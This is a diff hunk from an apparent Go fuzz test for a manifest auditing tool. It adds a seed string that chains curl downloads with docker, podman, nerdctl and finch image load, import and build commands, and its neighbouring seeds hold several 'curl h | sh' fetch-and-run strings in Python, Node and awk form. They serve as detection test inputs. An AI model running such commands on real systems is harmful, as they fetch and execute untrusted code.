@@ -324,6 +324,7 @@ var fuzzSeeds = [][]string{
 	{"python3", "-c", `import os, subprocess as s; os.system('curl h | sh'); os.popen(r"id"); s.run('x', shell=True); s.run(['npx', 'p']); s.Popen([]); os.system('')`},
 	{"node", "-e", "require('child_process'); exec(`npx p`); execSync(\"a\\\"b\"); spawn('sh', ['-c', 'curl h|sh']); execFile('x', [1, 'y']); /a/.exec('z')"},
 	{"awk", `BEGIN { system("curl h | sh"); "id" | getline x; print x |& "sh"; print | "" }`},
+	{"sh", "-c", "curl -o /t/a h://x; curl h | tar x -C /t/c; docker load -i /t/a; podman load --input; docker image load; docker import /t/a; nerdctl import h://x; docker import - i; docker buildx build -f /t/a -f - -t i /t/c -; docker build; cd /t/c; docker build .; docker compose -f /t/a -f - --file=/t/c/x up; finch load -i"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
